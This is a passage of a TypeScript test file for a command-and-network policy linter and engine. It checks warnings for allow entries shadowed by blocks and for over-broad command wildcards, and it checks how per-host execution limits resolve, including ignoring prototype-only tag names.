  it('names allow entries that a block entry covers whole (blocks win, so they never admit)', () => {
    const warnings = lintPolicy(
      policyFileSchema.parse({
        network: {
          block_cidrs: ['0.0.0.0/0', 'fd00::/8'],
          block_ips: ['192.168.1.9'],
          allow_cidrs: ['10.0.0.0/8', 'fd00:1::/32', '2001:db8::/32'],
          allow_ips: ['192.168.1.9', '::1'],
        },
      }),
    ).filter((w) => w.startsWith('network.'));
    expect(warnings).toEqual([
      'network.allow_ips 192.168.1.9 can never admit an address: 192.168.1.9 in network.block_ips covers it, and blocks win over allow lists',
      'network.allow_cidrs 10.0.0.0/8 can never admit an address: 0.0.0.0/0 in network.block_cidrs covers it, and blocks win over allow lists',
      'network.allow_cidrs fd00:1::/32 can never admit an address: fd00::/8 in network.block_cidrs covers it, and blocks win over allow lists',
    ]);
    // A block inside an allow range leaves the rest of it: no warning.
    expect(
      lintPolicy(policyFileSchema.parse({ network: { block_cidrs: ['10.1.0.0/16'], allow_cidrs: ['10.0.0.0/8'] } })),
    ).toEqual([]);
  });

  it('warns about wildcards where a program would be, and about unchecked rules', () => {
    const warnings = lintPolicy(
      policyFileSchema.parse({
        rules: [
          { name: 'w', action: 'allow', commands: ['sudo *', 'nice -n 5 *', 'sudo systemctl restart *', 'ls *', '*'] },
          { name: 'u', action: 'allow', allow_syntax: ['heredoc'], commands: ['cat *'] },
        ],
      }),
    );
    expect(warnings.some((w) => w.includes("in 'sudo *'"))).toBe(true);
    expect(warnings.some((w) => w.includes("in 'nice -n 5 *'"))).toBe(true);
    expect(warnings.some((w) => w.includes("in 'sudo systemctl restart *'"))).toBe(false);
    expect(warnings.some((w) => w.includes("'ls *'"))).toBe(false);
    expect(warnings.some((w) => w.includes("'*' admits any command"))).toBe(true);
    expect(warnings.some((w) => w.startsWith("rule 'u'") && w.includes('unchecked'))).toBe(true);
  });
});

describe('PolicyEngine.limitsFor', () => {
  it('returns DEFAULT_LIMITS for an empty policy', () => {
    expect(new PolicyEngine(policyFileSchema.parse({})).limitsFor(dev)).toEqual(DEFAULT_LIMITS);
  });

  it('applies policy.limits over the defaults', () => {
    expect(engine.limitsFor(dev)).toEqual({ ...DEFAULT_LIMITS, max_seconds: 45, max_output_bytes: 500_000 });
  });

  it('applies tag overrides in the order of the host tags', () => {
    expect(engine.limitsFor({ alias: 'x', tags: ['production'] }).max_seconds).toBe(30);
    expect(engine.limitsFor({ alias: 'x', tags: ['production', 'longrun'] })).toMatchObject({ max_seconds: 180, task_result_ttl: 1800 });
    expect(engine.limitsFor({ alias: 'x', tags: ['longrun', 'production'] })).toMatchObject({ max_seconds: 30, task_result_ttl: 1800 });
  });

  it('lets the alias override win over tag overrides', () => {
    expect(engine.limitsFor({ alias: 'prod-web-1', tags: ['production', 'longrun'] })).toEqual({
      max_seconds: 20,
      max_output_bytes: 500_000,
      task_result_ttl: 1800,
      task_progress_interval: DEFAULT_LIMITS.task_progress_interval,
    });
  });

  it('ignores tags that only exist on Object.prototype', () => {
    expect(engine.limitsFor({ alias: 'toString', tags: ['constructor', '__proto__'] }).max_seconds).toBe(45);
  });
}); // prettier-ignore
